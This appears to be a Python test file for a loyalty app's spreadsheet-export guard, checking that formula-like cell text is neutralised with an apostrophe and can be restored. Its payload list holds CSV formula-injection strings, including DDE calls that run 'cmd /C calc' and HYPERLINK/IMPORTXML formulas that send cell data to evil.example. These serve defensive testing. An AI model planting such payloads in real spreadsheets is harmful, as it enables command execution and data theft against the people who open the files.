"""No text cell of a file is ever a formula, and every text comes back."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from loyalty.exports.formula_guard import neutralised, restore
from loyalty.exports.table import to_csv, to_xlsx
from loyalty.intake.values.cells import clean_cell

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "=",
    "+",
    "-",
    "@",
    '="00123"',
]
LEADS = ["", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u3000", "\ufeff", "\u200b", " \n ", "'"]
WIDE = ["＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "−1", "\u3000＝1"]
PAYLOADS = sorted({lead + text for lead in LEADS for text in FORMULAS[:8]} | set(FORMULAS) | set(WIDE))
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n\0"


def test_there_are_a_hundred_payloads() -> None:
    assert len(PAYLOADS) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_text_and_comes_back(payload: str) -> None:
    cell = neutralised(payload)
    assert cell == "'" + payload
    assert restore(cell) == payload


def test_no_payload_starts_a_cell_of_a_file() -> None:
    frame = pd.DataFrame({"=heading": PAYLOADS, "amount": [-1.5] * len(PAYLOADS)})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=heading", "amount"]
    assert not [row for row in rows if row[0].strip()[:1] in SIGNS]
    assert [restore(row[0]) for row in rows[1:]] == PAYLOADS
    assert {row[1] for row in rows[1:]} == {"-1.5"}  # amounts stay numbers
    sheet = load_workbook(io.BytesIO(to_xlsx(frame))).active
    assert {cell.data_type for cell in sheet["A"]} == {"s"}
    assert {cell.value[0] for cell in sheet["A"]} == {"'"}
    assert {cell.value for cell in sheet["B"][1:]} == {-1.5}


@given(st.text())
@example("''=1")
@example("'Ann")
@example("'")
@example("''")
def test_every_text_comes_back(text: str) -> None:
    assert restore(neutralised(text)) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n\0ab＝\u200b"), max_size=6))
def test_nothing_risky_is_left(text: str) -> None:
    cell = neutralised(text)
    assert cell[:1] not in {*SIGNS}
    assert cell.lstrip(" \t\r\n\0\u200b")[:1] not in {*"=+-@＝"}


@pytest.mark.parametrize("text", ["Ann", "", "a=b", "1-2", "3.50", "张伟", "O'Neil", "NA", "00123"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


@pytest.mark.parametrize("text", [*FORMULAS[:15], "＝1+1", "'s-Hertogenbosch", "''", "Ann", "+8613800138000"])
def test_the_apps_own_reader_takes_the_apostrophe_off(text: str) -> None:
    assert clean_cell(neutralised(text)) == text
